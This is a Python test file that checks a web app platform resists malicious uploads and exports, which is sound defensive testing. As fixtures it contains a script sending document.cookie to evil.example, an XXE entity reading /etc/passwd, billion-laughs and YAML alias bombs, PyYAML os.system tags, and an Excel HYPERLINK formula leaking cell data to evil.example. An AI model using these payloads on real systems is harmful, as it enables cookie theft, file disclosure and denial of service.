"""Files made to do harm: scripts in SVG and HTML, XML that reads files or explodes, formulas, zip bombs."""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any

import openpyxl
import pytest

from tests.api.client import Api
from tests.api.native.asking import BOUNDED, Native, multipart
from tests.conftest import AnApp
from urakata.definition.schema import AppSchema

SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"
SHOWN_BY_BROWSERS = {
    "a.svg": (
        "image/svg+xml",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>",
    ),
    "a.html": ("text/html", SCRIPT),
    "a.xhtml": ("application/xhtml+xml", SCRIPT),
    "a.xml": ("text/xml", b'<?xml-stylesheet href="javascript:alert(1)"?><a/>'),
    "a.js": ("text/javascript", b"alert(1)"),
    "a.png": ("image/png", SCRIPT),
    "a.pdf": ("application/pdf", b"%PDF-1.7 /JavaScript"),
    "a.mht": ("multipart/related", SCRIPT),
}
ENTITIES = """<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY a "{a}"><!ENTITY file SYSTEM "file:///etc/passwd">{more}]>"""
LAUGHS = "".join(f'<!ENTITY b{n} "{f"&b{n - 1};" * 10 if n else "ha" * 10}">' for n in range(12))


@pytest.fixture
def ledger(an_app: AnApp) -> AppSchema:
    return an_app({"件名": "SINGLE_LINE_TEXT", "数": "NUMBER"})


@pytest.mark.parametrize("name", SHOWN_BY_BROWSERS)
def test_what_others_uploaded_is_never_shown_as_our_page(
    as_suzuki: Api, name: str, settings: Any, tmp_path: Any
) -> None:
    settings.FILES_ROOT = tmp_path
    kind, content = SHOWN_BY_BROWSERS[name]
    head = f'--b\r\nContent-Disposition: form-data; name="file"; filename="{name}"\r\n'
    sent = as_suzuki.client.generic(
        "POST",
        "/k/v1/file.json",
        head.encode() + f"Content-Type: {kind}\r\n\r\n".encode() + content + b"\r\n--b--\r\n",
        content_type="multipart/form-data; boundary=b",
        headers=as_suzuki.headers,
    )

    answer = as_suzuki.get("file", f"fileKey={sent.json()['fileKey']}")

    assert b"".join(answer.body.streaming_content) == content
    assert answer.headers["Content-Disposition"].startswith("attachment")
    assert answer.headers["Content-Security-Policy"] == "sandbox; default-src 'none'"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Cross-Origin-Resource-Policy"] == "same-origin"


def workbook(part: str, prolog: str, entity: str) -> bytes:
    """A workbook of which one part has a prolog of its own and uses an entity of it."""
    book = openpyxl.Workbook()
    book.active.append(["件名", "数"])
    book.active.append(["TEXT", 1])
    plain = io.BytesIO()
    book.save(plain)
    made = io.BytesIO()
    with zipfile.ZipFile(plain) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            text = old.read(name).decode()
            if name == part:
                body = text.partition("?>")[2] if text.startswith("<?xml") else text
                text = prolog + body.replace("TEXT", entity)
            new.writestr(name, text)
    return made.getvalue()


@pytest.mark.parametrize("entity", ["&file;", "&b11;"])
@pytest.mark.parametrize(
    "part", ["xl/sharedStrings.xml", "xl/worksheets/sheet1.xml", "xl/workbook.xml"]
)
def test_a_workbook_reads_no_file_and_does_not_explode(
    as_sato: Api, ledger: AppSchema, part: str, entity: str
) -> None:
    native = Native(as_sato, ledger.app_id)
    data = workbook(part, ENTITIES.format(a="x", more=LAUGHS), entity)

    reply = native.upload("a.xlsx", data)

    shown = native("GET", "records").body["records"]
    assert reply.status in (200, 400)
    assert "root:" not in str(shown) + str(reply.body)
    assert len(str(shown)) < 10_000


@pytest.mark.parametrize(
    "text",
    [
        "a: &a [x,x,x,x,x,x,x,x,x,x]\n" + "".join(
            f"{chr(98 + n)}: &{chr(98 + n)} [{','.join([f'*{chr(97 + n)}'] * 10)}]\n" for n in range(9)
        ),
        "!!python/object/apply:os.system ['true']",
        "format: !!python/name:os.system",
        "[" * 5_000,
    ],
)  # fmt: skip
def test_a_definition_runs_nothing_and_does_not_explode(
    as_sato: Api, ledger: AppSchema, text: str
) -> None:
    native = Native(as_sato, ledger.app_id)

    reply = native.send("PUT", "definition.yaml", text.encode(), "text/yaml")

    assert reply.status == 400


def test_what_goes_out_to_excel_computes_nothing(as_sato: Api, ledger: AppSchema) -> None:
    native = Native(as_sato, ledger.app_id)
    formula = '=HYPERLINK("http://evil.example?x="&A1,"click")'
    rows = [{"件名": {"value": formula}, "数": {"value": "-5"}}]
    native("POST", "records", {"records": rows})

    text = native("GET", "records.csv").body.decode("utf-8-sig")
    book = openpyxl.load_workbook(io.BytesIO(native("GET", "records.xlsx").body))

    cells = next(iter(csv.DictReader(io.StringIO(text))))
    assert (cells["件名"], cells["数"]) == (f"'{formula}", "-5")
    kinds = {cell.value: cell.data_type for cell in book.active[2]}
    assert kinds[formula] == "s"


def test_and_comes_back_as_it_was(as_sato: Api, ledger: AppSchema) -> None:
    native = Native(as_sato, ledger.app_id)
    texts = ["=1+1", "'=1+1", "-", "+81-3-1234-5678", "普通"]
    native("POST", "records", {"records": [{"件名": {"value": text}} for text in texts]})

    file = native("GET", "records.csv", query="order by $id asc").body
    native.send("POST", "import", multipart("a.csv", file), BOUNDED)

    records = native("GET", "records", query="order by $id asc", fields="件名").body["records"]
    assert [record["件名"]["value"] for record in records] == texts * 2
